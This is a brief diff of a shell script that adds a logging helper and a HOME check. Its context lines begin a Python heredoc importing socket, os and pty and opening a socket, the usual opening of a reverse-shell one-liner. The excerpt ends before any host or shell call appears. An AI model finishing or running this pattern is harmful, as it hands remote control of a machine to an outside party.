@@ -1,4 +1,8 @@
-#!/usr/bin/env bash
+#!/bin/sh
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
 python3 - <<EOF
 import socket,os,pty
 s=socket.socket()
